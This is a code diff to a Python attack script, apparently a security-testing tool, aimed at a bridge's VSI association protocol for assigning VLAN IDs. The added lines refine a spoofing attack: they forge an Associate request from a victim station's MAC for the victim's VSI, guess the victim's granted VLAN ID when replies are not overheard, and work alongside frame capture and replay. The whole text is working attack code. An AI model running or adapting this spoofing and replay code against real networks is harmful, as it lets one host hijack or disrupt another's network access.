@@ -36,6 +36,8 @@ MAX_ULPDU = 1500 - 4
 # would: the bridge's pool keeps handing out the other VIDs to the legitimate station's null-VID requests.
 QUEUE_VID = 1098
 SCALE_VID = 1099
+# The VID a spoofed Associate asks for on the victim's VSI (inside the range, so only the spoofing is at stake).
+SPOOF_VID = 1097
 
 
 def mac_bytes(text):
@@ -318,6 +320,7 @@ def validation(args):
     replayed = False
     victim_granted_vid = None
     sent_spoof = sent_vids = sent_formats = False
+    victim_asked_at = None   # when the victim first asked for victim_vsiid
     deadline = time.monotonic() + args.seconds
     t0 = time.monotonic()
     own_requests = {}
@@ -338,6 +341,8 @@ def validation(args):
                 source, _, seq, ulpdu = parsed
                 if source == victim:
                     for kind, status, _, vsiid, _ in vsi_tlvs(ulpdu):
+                        if vsiid == victim_vsiid and kind == 3 and victim_asked_at is None:
+                            victim_asked_at = now
                         if vsiid == replay_vsiid and kind == 3 and captured is None:
                             captured = frame
                         if vsiid == replay_vsiid and kind == 4 and captured is not None and deassociated_at is None:
@@ -349,10 +354,14 @@ def validation(args):
                     for kind, status, _, vsiid, entries in vsi_tlvs(ulpdu):
                         if vsiid == victim_vsiid and kind == 3 and status & 0x4F == 0x40 and entries:
                             victim_granted_vid = victim_granted_vid or entries[0][1] & 0xFFF
+        # A bridge that answers each station at its own MAC address is not overheard through the hub: then the
+        # victim's VID is taken to be the first of the pool (--victim-vid), one second after its request.
+        if victim_granted_vid is None and victim_asked_at is not None and now - victim_asked_at > 1.0:
+            victim_granted_vid = args.victim_vid
         if not sent_spoof and victim_granted_vid is not None:
             # the victim's VSI, from the victim's MAC, with other filters
             request(victim, [(uuid_bytes(args.victim_vsiid),
-                              vsi_tlv(3, victim_vsiid, entries=((bytes.fromhex('525400bad001'), 77),)))], 'spoof')
+                              vsi_tlv(3, victim_vsiid, entries=((bytes.fromhex('525400bad001'), SPOOF_VID),)))], 'spoof')
             sent_spoof = True
         if not sent_vids and now - t0 > 1.0 and victim_granted_vid is not None:
             for n, vid in enumerate([1, 4095, victim_granted_vid]):
@@ -371,7 +380,7 @@ def validation(args):
             port.send(captured)
             replayed = True
     result = {'attack': 'validation', 'captured': captured is not None, 'replayed': replayed,
-              'victimGrantedVID': victim_granted_vid}
+              'victimVID': victim_granted_vid}
     outcome = {}
     for label, sent in own_requests.items():
         answers = [a for vsiid, at in sent for a in responses.since(vsiid, at)]
@@ -427,6 +436,7 @@ def main():
         p.add_argument('--victim')
         p.add_argument('--victim-vsiid')
         p.add_argument('--replay-vsiid')
+        p.add_argument('--victim-vid', type=int, default=100)
         p.add_argument('--vsis', type=int, default=100000)
         p.add_argument('--settle', type=float, default=2)
         p.set_defaults(function=function)
